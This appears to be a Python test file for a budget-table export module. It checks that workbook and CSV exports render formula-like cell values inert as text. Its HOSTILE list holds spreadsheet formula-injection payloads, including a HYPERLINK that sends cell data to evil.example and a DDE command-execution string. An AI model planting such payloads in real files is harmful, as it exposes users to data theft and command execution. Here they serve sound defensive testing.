"""The exported files never carry a live formula: a project or catalogue name a clerk
typed (``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``, a leading tab or CR) is text in the
workbook and behind a ``'`` in the CSV files; amounts stay numbers, negative ones too."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from projections.exports import csv_field, formula_like, write_csv, write_xlsx
from projections.statutory_tables import Table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "#N/A",
]


def hostile_table() -> Table:
    return Table(
        code="公开09表",
        title="项目支出绩效自评",
        headers=["项目", "=金额", "变动"],
        rows=[[name, Decimal("12.30"), Decimal("-1.24")] for name in HOSTILE]
        + [["-5.00", Decimal("-5.00"), "-1.24"]],
        note="=注：说明",
    )


def test_no_workbook_cell_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "决算.xlsx"
    write_xlsx([hostile_table()], path, unit="=单位", year=2022)
    sheet = load_workbook(path)["公开09表"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    texts = {c.value for c in cells if c.data_type == "s"}
    # Shown as registered, as text (XML reads a CR back as a line feed).
    assert {h.replace("\r", "\n") for h in HOSTILE} <= texts
    formula_cells = [c for c in cells if isinstance(c.value, str) and formula_like(c.value)]
    assert formula_cells and all(c.quotePrefix for c in formula_cells)
    amounts = [c.value for c in cells if c.data_type == "n"]
    assert -1.24 in amounts and 12.3 in amounts  # numbers, not text
    # In the file itself: no <f> element at all.
    from zipfile import ZipFile

    with ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_no_csv_field_starts_like_a_formula(tmp_path: Path) -> None:
    [path] = write_csv([hostile_table()], tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        fields = [f for row in csv.reader(handle) for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and f not in ("-1.24", "-5.00")]
    assert "'" + HOSTILE[0] in fields and "'-2+3" in fields
    assert fields.count("-1.24") == len(HOSTILE) + 1  # numbers are never altered


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10", "'+86 10"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.24", "-1.24"),
        ("+3", "+3"),
        (Decimal("-1.24"), "-1.24"),
        ("2010301", "2010301"),
        ("一般公共服务支出", "一般公共服务支出"),
        (None, None),
    ],
)
def test_csv_field(value: str | Decimal | None, written: str | None) -> None:
    assert csv_field(value) == written
